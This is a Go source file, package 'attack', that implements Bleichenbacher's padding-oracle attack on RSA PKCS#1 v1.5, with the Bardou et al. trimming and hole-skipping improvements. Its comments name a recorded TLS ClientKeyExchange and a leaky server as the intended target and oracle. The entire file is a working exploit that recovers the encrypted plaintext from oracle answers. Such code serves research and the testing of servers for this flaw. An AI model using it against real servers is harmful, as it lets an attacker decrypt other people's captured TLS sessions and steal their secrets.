package attack

import (
	"errors"
	"math/big"
)

// Oracle answers one question about a ciphertext c: does c decrypt to a
// block that starts 00 02 (PKCS#1 v1.5 conformant, as far as the leaky
// server checks)? An error stops the attack.
type Oracle func(c []byte) (bool, error)

// Progress is reported after each step of the attack.
type Progress struct {
	Queries   int // oracle queries so far
	Intervals int // intervals the plaintext may lie in
	WidthBits int // bits of uncertainty left: log2 of the widest interval
	Step      string
}

// Bleichenbacher is one run of the attack on ciphertext c under the public
// key (n, e). c must be conformant itself (a recorded ClientKeyExchange
// is), so the blinding step 1 of the paper is skipped (s0 = 1).
type Bleichenbacher struct {
	N        *big.Int
	E        int
	Oracle   Oracle
	Report   func(Progress) // optional
	MaxQuery int            // stop after this many queries; 0 means no limit
	// Trim is how many queries to spend trimming the first interval
	// (Bardou et al. §4.1) before step 2a; 0 skips trimming.
	Trim int

	k          int // modulus length in bytes
	b2, b3     *big.Int
	c0         *big.Int
	queries    int
	lastReport int
}

// interval is [lo, hi], both inclusive.
type interval struct{ lo, hi *big.Int }

// ErrQueryLimit is returned when MaxQuery queries did not suffice.
var ErrQueryLimit = errors.New("attack: query limit reached before the plaintext was found")

// Run returns the plaintext block m (k bytes, 00 02 … ) with m^e = c.
//
// The idea (Bleichenbacher, CRYPTO 1998): c·s^e decrypts to m·s mod n, so
// each conformant answer for a chosen s says 2B ≤ m·s mod n < 3B, with B =
// 2^(8(k-2)). The set of m consistent with every answer is a union of
// intervals that shrinks by about half per conformant answer, until one
// value is left.
func (a *Bleichenbacher) Run(c []byte) ([]byte, error) {
	a.k = (a.N.BitLen() + 7) / 8
	b := new(big.Int).Lsh(big.NewInt(1), uint(8*(a.k-2)))
	a.b2 = new(big.Int).Lsh(b, 1)
	a.b3 = new(big.Int).Mul(b, big.NewInt(3))
	a.c0 = new(big.Int).SetBytes(c)
	// Step 1 (skipped): c is conformant, s0 = 1, M0 = {[2B, 3B-1]}.
	m := []interval{{new(big.Int).Set(a.b2), new(big.Int).Sub(a.b3, big.NewInt(1))}}
	if a.Trim > 0 {
		trimmed, err := a.trim(m[0])
		if err != nil {
			return nil, err
		}
		m[0] = trimmed
		a.report(m, "trim", true)
	}
	s, err := a.step2a(m[0])
	if err != nil {
		return nil, err
	}
	m = a.step3(m, s)
	for {
		a.report(m, "", false)
		if len(m) == 1 && m[0].lo.Cmp(m[0].hi) == 0 {
			// Step 4: s0 = 1, so m is the plaintext itself.
			a.report(m, "done", true)
			return m[0].lo.FillBytes(make([]byte, a.k)), nil
		}
		if len(m) > 1 {
			s, err = a.step2b(s)
		} else {
			s, err = a.step2c(m[0], s)
		}
		if err != nil {
			return nil, err
		}
		m = a.step3(m, s)
		if len(m) == 0 {
			return nil, errors.New("attack: no interval left: the oracle answered inconsistently")
		}
	}
}

// Queries returns the number of oracle queries made so far.
func (a *Bleichenbacher) Queries() int { return a.queries }

// conformant asks the oracle about c0·s^e mod n.
func (a *Bleichenbacher) conformant(s *big.Int) (bool, error) {
	if a.MaxQuery > 0 && a.queries >= a.MaxQuery {
		return false, ErrQueryLimit
	}
	a.queries++
	c := new(big.Int).Exp(s, big.NewInt(int64(a.E)), a.N)
	c.Mul(c, a.c0).Mod(c, a.N)
	return a.Oracle(c.FillBytes(make([]byte, a.k)))
}

// step2a finds the smallest s ≥ n/(3B) whose answer is conformant.
//
// Improvement ("skipping holes", Bardou et al. 2012 §4.2): with m in
// [2B, 3B-1], m·s mod n lands in [2B, 3B) only if m·s - j·n does for some
// j, which confines s to [(2B+jn)/(3B-1), (3B-1+jn)/(2B)] for j = 1, 2, …;
// the s between those ranges can never be conformant and are not asked.
func (a *Bleichenbacher) step2a(m interval) (*big.Int, error) {
	next := big.NewInt(0) // the smallest s not asked yet: the ranges overlap from j = 3 on
	for j := big.NewInt(1); ; j.Add(j, big.NewInt(1)) {
		jn := new(big.Int).Mul(j, a.N)
		lo := ceilDiv(new(big.Int).Add(a.b2, jn), m.hi)
		if lo.Cmp(next) < 0 {
			lo.Set(next)
		}
		hi := new(big.Int).Div(new(big.Int).Add(m.hi, jn), m.lo)
		next = new(big.Int).Add(hi, big.NewInt(1))
		for s := lo; s.Cmp(hi) <= 0; s.Add(s, big.NewInt(1)) {
			ok, err := a.conformant(s)
			if err != nil {
				return nil, err
			}
			if a.queries%256 == 0 {
				a.report([]interval{m}, "2a", false)
			}
			if ok {
				return new(big.Int).Set(s), nil
			}
		}
	}
}

// trim narrows M0 = [2B, 3B-1] before the search (Bardou et al. 2012,
// §4.1, "trimming M0"). For small coprime u, t with 2/3 < u/t < 3/2, a
// conformant answer for c·(u/t)^e means m·u/t is itself a conformant block,
// which (apart from rare accidents) needs t to divide m. With t' the lcm of
// the t found, every u gives an exact m·u/t', conformant exactly when it
// lies in [2B, 3B): binary searches find the smallest and largest such u,
// and 2B·t'/u_min ≤ m ≤ (3B-1)·t'/u_max.
func (a *Bleichenbacher) trim(m interval) (interval, error) {
	budget := a.queries + a.Trim
	tPrime := big.NewInt(1)
	found := false
	for t := int64(3); a.queries < budget && t < 1<<12; t++ {
		for _, u := range []int64{t - 1, t + 1} {
			if 3*u <= 2*t || 2*u >= 3*t || gcd(u, t) != 1 || a.queries >= budget {
				continue
			}
			ok, err := a.conformantFraction(big.NewInt(u), big.NewInt(t))
			if err != nil {
				return m, err
			}
			if ok {
				tPrime = lcm(tPrime, big.NewInt(t))
				found = true
				break
			}
		}
	}
	if !found {
		return m, nil
	}
	// u_min in (2t'/3, t']: conformant at t', not at 2t'/3.
	lo, hi := new(big.Int).Div(new(big.Int).Mul(tPrime, big.NewInt(2)), big.NewInt(3)), new(big.Int).Set(tPrime)
	for new(big.Int).Sub(hi, lo).Cmp(big.NewInt(1)) > 0 {
		mid := new(big.Int).Add(lo, hi)
		mid.Rsh(mid, 1)
		ok, err := a.conformantFraction(mid, tPrime)
		if err != nil {
			return m, err
		}
		if ok {
			hi = mid
		} else {
			lo = mid
		}
	}
	uMin := hi
	// u_max in [t', 3t'/2).
	lo, hi = new(big.Int).Set(tPrime), ceilDiv(new(big.Int).Mul(tPrime, big.NewInt(3)), big.NewInt(2))
	for new(big.Int).Sub(hi, lo).Cmp(big.NewInt(1)) > 0 {
		mid := new(big.Int).Add(lo, hi)
		mid.Rsh(mid, 1)
		ok, err := a.conformantFraction(mid, tPrime)
		if err != nil {
			return m, err
		}
		if ok {
			lo = mid
		} else {
			hi = mid
		}
	}
	uMax := lo
	out := interval{ceilDiv(new(big.Int).Mul(a.b2, tPrime), uMin), new(big.Int).Div(new(big.Int).Mul(m.hi, tPrime), uMax)}
	if out.lo.Cmp(m.lo) < 0 {
		out.lo.Set(m.lo)
	}
	if out.hi.Cmp(m.hi) > 0 {
		out.hi.Set(m.hi)
	}
	if out.lo.Cmp(out.hi) > 0 {
		return m, nil // an accidental answer misled us: keep M0
	}
	return out, nil
}

// conformantFraction asks about c0·(u·t⁻¹)^e mod n.
func (a *Bleichenbacher) conformantFraction(u, t *big.Int) (bool, error) {
	tInv := new(big.Int).ModInverse(t, a.N)
	if tInv == nil {
		return false, nil
	}
	s := new(big.Int).Mul(u, tInv)
	return a.conformant(s.Mod(s, a.N))
}

func gcd(a, b int64) int64 {
	for b != 0 {
		a, b = b, a%b
	}
	return a
}

func lcm(a, b *big.Int) *big.Int {
	g := new(big.Int).GCD(nil, nil, a, b)
	return new(big.Int).Mul(a, new(big.Int).Div(b, g))
}

// step2b searches linearly for the next conformant s (several intervals
// left).
func (a *Bleichenbacher) step2b(prev *big.Int) (*big.Int, error) {
	for s := new(big.Int).Add(prev, big.NewInt(1)); ; s.Add(s, big.NewInt(1)) {
		ok, err := a.conformant(s)
		if err != nil {
			return nil, err
		}
		if ok {
			return s, nil
		}
	}
}

// step2c searches one interval [lo, hi]: for r from 2(hi·s - 2B)/n up, the
// s in [(2B + rn)/hi, (3B + rn)/lo) — each conformant answer about halves
// the interval.
func (a *Bleichenbacher) step2c(m interval, prev *big.Int) (*big.Int, error) {
	r := new(big.Int).Mul(m.hi, prev)
	r.Sub(r, a.b2).Lsh(r, 1)
	r = ceilDiv(r, a.N)
	for ; ; r.Add(r, big.NewInt(1)) {
		rn := new(big.Int).Mul(r, a.N)
		lo := ceilDiv(new(big.Int).Add(a.b2, rn), m.hi)
		hi := ceilDiv(new(big.Int).Add(a.b3, rn), m.lo)
		for s := lo; s.Cmp(hi) < 0; s.Add(s, big.NewInt(1)) {
			ok, err := a.conformant(s)
			if err != nil {
				return nil, err
			}
			if ok {
				return new(big.Int).Set(s), nil
			}
		}
	}
}

// step3 narrows the intervals with the new conformant s: for each [lo, hi]
// and each r in [(lo·s - 3B + 1)/n, (hi·s - 2B)/n], keep
// [max(lo, ⌈(2B + rn)/s⌉), min(hi, ⌊(3B - 1 + rn)/s⌋)].
func (a *Bleichenbacher) step3(m []interval, s *big.Int) []interval {
	var out []interval
	b3m1 := new(big.Int).Sub(a.b3, big.NewInt(1))
	for _, iv := range m {
		rlo := new(big.Int).Mul(iv.lo, s)
		rlo.Sub(rlo, b3m1)
		rlo = ceilDiv(rlo, a.N)
		rhi := new(big.Int).Mul(iv.hi, s)
		rhi.Sub(rhi, a.b2).Div(rhi, a.N)
		for r := rlo; r.Cmp(rhi) <= 0; r.Add(r, big.NewInt(1)) {
			rn := new(big.Int).Mul(r, a.N)
			lo := ceilDiv(new(big.Int).Add(a.b2, rn), s)
			if lo.Cmp(iv.lo) < 0 {
				lo.Set(iv.lo)
			}
			hi := new(big.Int).Add(b3m1, rn)
			hi.Div(hi, s)
			if hi.Cmp(iv.hi) > 0 {
				hi.Set(iv.hi)
			}
			if lo.Cmp(hi) <= 0 {
				out = addInterval(out, interval{lo, hi})
			}
		}
	}
	return out
}

// addInterval adds iv to a union of intervals, merging overlaps.
func addInterval(m []interval, iv interval) []interval {
	for i, o := range m {
		if iv.lo.Cmp(o.hi) <= 0 && o.lo.Cmp(iv.hi) <= 0 {
			lo, hi := o.lo, o.hi
			if iv.lo.Cmp(lo) < 0 {
				lo = iv.lo
			}
			if iv.hi.Cmp(hi) > 0 {
				hi = iv.hi
			}
			rest := append(append([]interval(nil), m[:i]...), m[i+1:]...)
			return addInterval(rest, interval{lo, hi})
		}
	}
	return append(m, iv)
}

// report calls Report with the current state.
func (a *Bleichenbacher) report(m []interval, step string, force bool) {
	if a.Report == nil || (!force && a.queries == a.lastReport) {
		return
	}
	a.lastReport = a.queries
	width := 0
	for _, iv := range m {
		w := new(big.Int).Sub(iv.hi, iv.lo)
		if bl := w.BitLen(); bl > width {
			width = bl
		}
	}
	a.Report(Progress{Queries: a.queries, Intervals: len(m), WidthBits: width, Step: step})
}

// ceilDiv returns ⌈x/y⌉ for y > 0 (x may be negative).
func ceilDiv(x, y *big.Int) *big.Int {
	q, r := new(big.Int).DivMod(x, y, new(big.Int))
	if r.Sign() != 0 {
		q.Add(q, big.NewInt(1))
	}
	return q
}
